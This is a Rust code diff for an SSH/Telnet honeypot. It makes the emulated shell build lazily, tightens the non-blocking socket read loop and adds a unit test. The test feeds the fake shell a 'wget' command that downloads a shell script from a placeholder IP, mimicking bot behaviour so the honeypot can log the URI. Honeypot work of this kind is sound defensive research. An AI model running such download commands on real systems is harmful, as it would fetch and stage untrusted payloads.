@@ -3,13 +3,14 @@
 //!
 //! A [`Conn`] never blocks: each [`Conn::pump`] call flushes whatever the
 //! state machine has queued, reads whatever the socket has buffered, and
-//! returns. A worker shard owns a set of `Conn`s and pumps them round-robin,
-//! so hundreds of concurrent sessions multiplex onto a handful of threads.
+//! returns. A worker shard owns a set of `Conn`s and pumps each one when
+//! its socket is ready, so hundreds of concurrent sessions multiplex onto
+//! a handful of threads.
 
 use crate::{GatePermit, ServeStats};
-use honeypot::shell::{RemoteStore, Shell};
+use honeypot::shell::{CmdOutcome, RemoteStore, Shell};
 use honeypot::{
-    AuthPolicy, CommandRecord, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
+    AuthPolicy, CommandRecord, FileEvent, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
 };
 use hutil::DateTime;
 use sshwire::{AuthOutcome, ServerHandler, SshServer};
@@ -27,18 +28,44 @@ pub type SharedStore = Arc<dyn RemoteStore + Send + Sync>;
 /// the same type serves port 22 and port 23.
 pub struct LiveHandler<'s> {
     policy: AuthPolicy,
-    shell: Shell<'s>,
+    store: &'s dyn RemoteStore,
+    /// Built on the first command: most sessions never run one, and a
+    /// shell's filesystem costs microseconds to build and drop.
+    shell: Option<Shell<'s>>,
     commands: Vec<CommandRecord>,
 }
 
 impl<'s> LiveHandler<'s> {
-    /// New handler over a fresh shell.
+    /// New handler; its shell is built when the first command runs.
     pub fn new(policy: AuthPolicy, store: &'s dyn RemoteStore) -> Self {
         Self {
             policy,
-            shell: Shell::new(store),
+            store,
+            shell: None,
             commands: Vec::new(),
         }
+    }
+
+    /// Runs one command line in the session's shell and records it.
+    fn run(&mut self, command: &str) -> CmdOutcome {
+        let store = self.store;
+        let outcome = self
+            .shell
+            .get_or_insert_with(|| Shell::new(store))
+            .exec_line(command);
+        self.commands.push(CommandRecord {
+            input: command.to_string(),
+            known: outcome.known,
+        });
+        outcome
+    }
+
+    /// The URIs and file events the shell observed; none without a shell.
+    fn take_observations(&mut self) -> (Vec<String>, Vec<FileEvent>) {
+        self.shell
+            .as_mut()
+            .map(Shell::take_observations)
+            .unwrap_or_default()
     }
 }
 
@@ -52,11 +79,7 @@ impl ServerHandler for LiveHandler<'_> {
     }
 
     fn exec(&mut self, command: &str) -> (Vec<u8>, u32) {
-        let outcome = self.shell.exec_line(command);
-        self.commands.push(CommandRecord {
-            input: command.to_string(),
-            known: outcome.known,
-        });
+        let outcome = self.run(command);
         let status = if outcome.known { 0 } else { 127 };
         (outcome.output.into_bytes(), status)
     }
@@ -68,11 +91,7 @@ impl TelnetHandler for LiveHandler<'_> {
     }
 
     fn exec(&mut self, command: &str) -> String {
-        let outcome = self.shell.exec_line(command);
-        self.commands.push(CommandRecord {
-            input: command.to_string(),
-            known: outcome.known,
-        });
+        let outcome = self.run(command);
         let mut out = outcome.output;
         if !out.is_empty() && !out.ends_with('\n') {
             out.push_str("\r\n");
@@ -258,7 +277,11 @@ impl<'s> Conn<'s> {
         }
         // Loop until neither direction makes progress, so a whole
         // handshake round-trip completes in one pump when the bytes are
-        // already buffered.
+        // already buffered. A short read (or `WouldBlock`) means the
+        // socket is empty for now: the next round only flushes what that
+        // input produced, with no read that could only return
+        // `WouldBlock` — level-triggered epoll reports later bytes.
+        let mut drained = false;
         loop {
             let mut progress = self.machine_output() > 0;
 
@@ -283,6 +306,9 @@ impl<'s> Conn<'s> {
                     }
                 }
             }
+            if drained {
+                break;
+            }
 
             // Reader half: feed whatever the socket has to the machine.
             match self.stream.read(&mut *buf) {
@@ -294,13 +320,14 @@ impl<'s> Conn<'s> {
                     stats.bytes_in.fetch_add(n as u64, Ordering::Relaxed);
                     self.last_activity = now;
                     progress = true;
+                    drained = n < buf.len();
                     if self.machine_input(&buf[..n]).is_err() {
                         stats.wire_errors.fetch_add(1, Ordering::Relaxed);
                         self.ending = Some(Ending::Error);
                         return true;
                     }
                 }
-                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => drained = true,
                 Err(e) if e.kind() == std::io::ErrorKind::Interrupted => {}
                 Err(_) => {
                     self.ending = Some(Ending::Error);
@@ -362,10 +389,8 @@ impl<'s> Conn<'s> {
     }
 
     /// Raw fd for poller registration.
-    #[cfg(unix)]
     pub(crate) fn raw_fd(&self) -> i32 {
-        use std::os::unix::io::AsRawFd;
-        self.stream.as_raw_fd()
+        crate::reactor::raw_fd(&self.stream)
     }
 
     /// Force-closes an in-flight connection (drain timeout during
@@ -419,7 +444,7 @@ impl<'s> Conn<'s> {
                 (Protocol::Telnet, None, logins, server.into_handler())
             }
         };
-        let (uris, file_events) = handler.shell.take_observations();
+        let (uris, file_events) = handler.take_observations();
         SessionRecord {
             session_id: 0, // the collector assigns dense ids
             honeypot_id: sensor.honeypot_id,
@@ -473,4 +498,29 @@ pub fn now_unix() -> i64 {
         .duration_since(std::time::UNIX_EPOCH)
         .map(|d| d.as_secs() as i64)
         .unwrap_or(0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use honeypot::shell::NullStore;
+
+    #[test]
+    fn the_shell_is_built_on_the_first_command_only() {
+        let store = NullStore;
+        let mut idle = LiveHandler::new(AuthPolicy::default(), &store);
+        let _ = ServerHandler::auth(&mut idle, "root", Some("x"));
+        assert!(idle.shell.is_none(), "auth alone builds no shell");
+        assert_eq!(idle.take_observations(), (Vec::new(), Vec::new()));
+
+        let mut busy = LiveHandler::new(AuthPolicy::default(), &store);
+        let (_, status) = ServerHandler::exec(&mut busy, "wget http://198.51.100.7/x.sh");
+        assert!(busy.shell.is_some());
+        let out = TelnetHandler::exec(&mut busy, "uname -a");
+        assert!(!out.is_empty());
+        assert_eq!(busy.commands.len(), 2);
+        assert_eq!(status == 0, busy.commands[0].known);
+        let (uris, _) = busy.take_observations();
+        assert_eq!(uris, ["http://198.51.100.7/x.sh"]);
+    }
 }
